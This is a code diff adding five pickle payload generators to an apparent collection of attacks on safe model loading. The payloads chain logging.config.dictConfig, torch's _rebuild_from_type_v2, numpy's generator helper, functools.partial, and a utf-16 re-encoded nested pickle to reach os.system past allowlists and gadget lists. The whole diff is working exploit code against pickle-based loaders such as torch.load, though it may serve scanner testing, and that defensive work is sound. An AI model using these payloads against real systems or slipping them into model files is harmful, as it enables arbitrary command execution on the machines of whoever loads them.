@@ -134,6 +134,49 @@ def nested_pickle_loads(command: str) -> bytes:
     return proto(2) + call(global_("pickle", "loads"), data) + STOP
 
 
+def logging_dictconfig(command: str) -> bytes:
+    """A standard-library function on no gadget list: logging.config.dictConfig resolves a
+    handler's '()' factory by name (os.system) and calls it with the handler's other keys."""
+    handler = EMPTY_DICT + MARK + unicode("()") + unicode("os.system") + unicode("command") \
+        + unicode(command) + b"u"
+    config = EMPTY_DICT + MARK + unicode("version") + b"K\x01" + unicode("handlers") \
+        + EMPTY_DICT + unicode("h") + handler + SETITEM + b"u"
+    return proto(2) + call(global_("logging.config", "dictConfig"), config) + STOP
+
+
+def rebuild_applier(command: str) -> bytes:
+    """torch._tensor._rebuild_from_type_v2 (allowed: torch.save writes it) calls its first
+    argument with its third: here torch.storage._load_from_bytes with a harmful pickle."""
+    args = MARK + global_("torch.storage", "_load_from_bytes") + global_("torch", "Tensor") \
+        + MARK + binbytes(classic(command)) + TUPLE + EMPTY_DICT + TUPLE
+    return proto(2) + global_("torch._tensor", "_rebuild_from_type_v2") + args + REDUCE + STOP
+
+
+def generator_ctor(command: str) -> bytes:
+    """numpy's Generator unpickling helper calls its second argument on its first: a nested
+    torch.load of a harmful pickle."""
+    return proto(2) + call(global_("numpy.random._pickle", "__generator_ctor"),
+                           binbytes(classic(command)),
+                           global_("torch.storage", "_load_from_bytes")) + STOP
+
+
+def partial_nested(command: str) -> bytes:
+    """functools.partial of an allowed nested loader, called: the nested pickle runs."""
+    made = call(global_("functools", "partial"), global_("torch.storage", "_load_from_bytes"),
+                binbytes(classic(command)))
+    return proto(2) + made + MARK + TUPLE + REDUCE + STOP
+
+
+def utf16_nested(command: str) -> bytes:
+    """A nested pickle whose bytes come from _codecs.encode(text, 'utf-16-le'): read as
+    latin-1 they are other bytes."""
+    inner = classic(command)
+    inner += b" " * (len(inner) % 2)  # after STOP: ignored by the loader
+    data = call(global_("_codecs", "encode"), unicode(inner.decode("utf-16-le")),
+                unicode("utf-16-le"))
+    return proto(2) + call(global_("torch.storage", "_load_from_bytes"), data) + STOP
+
+
 def dynamic_name(command: str) -> bytes:
     """STACK_GLOBAL whose module name is the result of a call (str.join), not a constant."""
     module = call(global_("builtins", "str"), unicode("os"))
@@ -188,6 +231,11 @@ PAYLOADS: dict[str, Callable[[str], bytes]] = {
     "torch-load": torch_load,
     "nested-load-from-bytes": nested_load_from_bytes,
     "nested-pickle-loads": nested_pickle_loads,
+    "logging-dictconfig": logging_dictconfig,
+    "rebuild-applier": rebuild_applier,
+    "generator-ctor": generator_ctor,
+    "partial-nested": partial_nested,
+    "utf16-nested": utf16_nested,
     "dynamic-name": dynamic_name,
     "extension-code": extension_code,
     "build-on-function": build_on_function,
